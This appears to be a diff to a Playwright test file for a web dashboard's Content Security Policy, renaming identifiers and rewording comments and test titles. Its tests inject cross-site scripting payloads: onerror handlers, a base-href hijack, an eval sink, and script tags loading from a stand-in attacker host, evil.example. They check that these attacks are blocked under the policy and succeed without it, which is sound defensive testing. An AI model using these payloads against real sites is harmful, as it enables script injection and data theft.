@@ -5,13 +5,13 @@ const EVIL = 'http://evil.example';
 
 declare global {
   interface Window {
-    /** The attacks that came through. */
+    /** The names of the attacks that succeeded in the page. */
     attacked?: string[];
   }
 }
 
-/** What somebody who may run a little code, or has found a careless one to call, would do next. */
-const SINKS: Record<string, () => unknown> = {
+/** Attacks by code that already runs in the page. */
+const SCRIPT_ATTACKS: Record<string, () => unknown> = {
   innerHTML: () => {
     const parent = document.body.appendChild(document.createElement('div'));
     parent.innerHTML = `<img src="/none" onerror="(window.attacked ??= []).push('innerHTML')">`;
@@ -36,7 +36,7 @@ const SINKS: Record<string, () => unknown> = {
     script.src = 'http://evil.example/foreign script';
     document.head.append(script);
   },
-  // From a timer: what the test itself evaluates may evaluate more.
+  // In a timer, because code that Playwright evaluates may use eval despite the policy.
   eval: () =>
     setTimeout(() => {
       // biome-ignore lint/security/noGlobalEval: the attack itself
@@ -66,8 +66,8 @@ const SINKS: Record<string, () => unknown> = {
   },
 };
 
-/** What a server-side hole would write into the page. */
-const MARKUP: Record<string, string> = {
+/** Attacks by markup that a flaw in the server writes into the page. */
+const MARKUP_ATTACKS: Record<string, string> = {
   'script element': `<script>(window.attacked ??= []).push('script element')</script>`,
   'handler attribute': `<img src="/none" onerror="(window.attacked ??= []).push('handler attribute')">`,
   'foreign script element': `<script src="${EVIL}/foreign script element"></script>`,
@@ -79,84 +79,85 @@ const MARKUP: Record<string, string> = {
   'other base': `<base href="${EVIL}/"><script src="other base"></script>`,
 };
 
-/** Notes what reaches the attacker's site, and answers with a script that says so in the page. */
-async function standUpEvil(page: Page): Promise<Set<string>> {
+/** Serves the attacker's site. Returns the names of the attacks that reach it. */
+async function serveAttackerSite(page: Page): Promise<Set<string>> {
   const reached = new Set<string>();
   await page.route(`${EVIL}/**`, (route) => {
     const name = decodeURIComponent(new URL(route.request().url()).pathname.slice(1));
     reached.add(name);
-    return route.fulfill({ contentType: 'text/javascript', body: '', headers: ANYBODY });
+    return route.fulfill({ contentType: 'text/javascript', body: '', headers: ANY_ORIGIN });
   });
   return reached;
 }
 
-const ANYBODY = { 'access-control-allow-origin': '*' };
+const ANY_ORIGIN = { 'access-control-allow-origin': '*' };
 
-async function answerWith(route: Route, { body = '', isFree }: { body?: string; isFree: boolean }) {
+async function answerWith(
+  route: Route,
+  { body = '', isUnprotected }: { body?: string; isUnprotected: boolean },
+) {
   const response = await route.fetch();
   const { 'content-security-policy': policy = '', ...others } = response.headers();
   await route.fulfill({
     response,
-    headers: isFree ? others : { ...others, 'content-security-policy': policy },
+    headers: isUnprotected ? others : { ...others, 'content-security-policy': policy },
     body: (await response.text()).replace('</body>', `${body}</body>`),
   });
 }
 
-async function cameThrough(page: Page, reached: Set<string>): Promise<string[]> {
+async function findSuccessful(page: Page, reached: Set<string>): Promise<string[]> {
   const inPage = await page.evaluate(() => window.attacked ?? []);
   return [...new Set([...inPage, ...reached])];
 }
 
-// Each attack is made on a page without the policy too: one that would not work anyway shows nothing.
-for (const isFree of [true, false]) {
-  const what = isFree ? 'comes through without the policy' : 'is refused by the policy';
+// Each attack also runs without the policy, to show that it would succeed.
+for (const isUnprotected of [true, false]) {
+  const what = isUnprotected ? 'succeed without the policy' : 'are blocked by the policy';
 
-  test(`text that becomes code, or a secret sent elsewhere, ${what}`, async ({
-    page,
-    complaints,
-  }) => {
-    const reached = await standUpEvil(page);
-    await page.route('**/transactions', (route) => answerWith(route, { isFree }));
+  test(`attacks by script ${what}`, async ({ page, consoleErrors }) => {
+    const reached = await serveAttackerSite(page);
+    await page.route('**/transactions', (route) => answerWith(route, { isUnprotected }));
     await openAs(page, SAFFRON);
-    for (const [name, attack] of Object.entries(SINKS)) {
-      const before = complaints.length;
+    for (const [name, attack] of Object.entries(SCRIPT_ATTACKS)) {
+      const before = consoleErrors.length;
       await page.evaluate(attack).catch(() => {});
-      if (!isFree) {
-        await expect.poll(() => complaints.length, name).toBeGreaterThan(before);
+      if (!isUnprotected) {
+        await expect.poll(() => consoleErrors.length, name).toBeGreaterThan(before);
       }
     }
-    const all = Object.keys(SINKS);
+    const all = Object.keys(SCRIPT_ATTACKS);
     await expect
-      .poll(() => cameThrough(page, reached))
-      .toEqual(isFree ? expect.arrayContaining(all) : []);
-    complaints.length = 0;
+      .poll(() => findSuccessful(page, reached))
+      .toEqual(isUnprotected ? expect.arrayContaining(all) : []);
+    consoleErrors.length = 0;
   });
 
-  test(`markup written into the page ${what}`, async ({ page, complaints }) => {
-    const reached = await standUpEvil(page);
-    const body = Object.values(MARKUP).join('\n');
-    await page.route('**/login', (route) => answerWith(route, { body, isFree }));
+  test(`attacks by markup ${what}`, async ({ page, consoleErrors }) => {
+    const reached = await serveAttackerSite(page);
+    const body = Object.values(MARKUP_ATTACKS).join('\n');
+    await page.route('**/login', (route) => answerWith(route, { body, isUnprotected }));
     await page.goto('/login');
     await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
-    const all = Object.keys(MARKUP);
-    if (!isFree) await expect.poll(() => complaints.length).toBeGreaterThanOrEqual(all.length);
+    const all = Object.keys(MARKUP_ATTACKS);
+    if (!isUnprotected)
+      await expect.poll(() => consoleErrors.length).toBeGreaterThanOrEqual(all.length);
     await expect
-      .poll(() => cameThrough(page, reached))
-      .toEqual(isFree ? expect.arrayContaining(all) : []);
-    complaints.length = 0;
+      .poll(() => findSuccessful(page, reached))
+      .toEqual(isUnprotected ? expect.arrayContaining(all) : []);
+    consoleErrors.length = 0;
   });
 }
 
-test('no other page can put the dashboard into a frame', async ({ page, complaints }) => {
+test('no page can put the dashboard into a frame', async ({ page, consoleErrors }) => {
   const body = '<iframe src="/login"></iframe>';
   await page.route('**/frames', (route) => route.fulfill({ contentType: 'text/html', body }));
   await page.goto('/frames');
-  await expect.poll(() => complaints.join()).toContain('frame-ancestors');
+  await expect.poll(() => consoleErrors.join()).toContain('frame-ancestors');
   await expect(page.frameLocator('iframe').getByRole('button')).toHaveCount(0);
-  complaints.length = 0;
+  consoleErrors.length = 0;
 });
 
-test('a date may be mistyped, pasted over and cut', async ({ page }) => {
+test('a date field accepts typing, pasting and cutting under the policy', async ({ page }) => {
   await openAs(page, SAFFRON);
   const month = page.getByRole('spinbutton', { name: 'Month' }).first();
   const empty = (await month.textContent()) ?? '';
@@ -169,7 +170,7 @@ test('a date may be mistyped, pasted over and cut', async ({ page }) => {
   await expect(month).toHaveText(empty);
 });
 
-test('the contract of the service is shown with its looks', async ({ page }) => {
+test('the API documentation is shown with its styles', async ({ page }) => {
   await page.goto('/api/docs');
   await expect(page.getByRole('heading', { name: 'Merchant transactions' })).toBeVisible();
   const width = await page.evaluate(() => getComputedStyle(document.body).maxWidth);
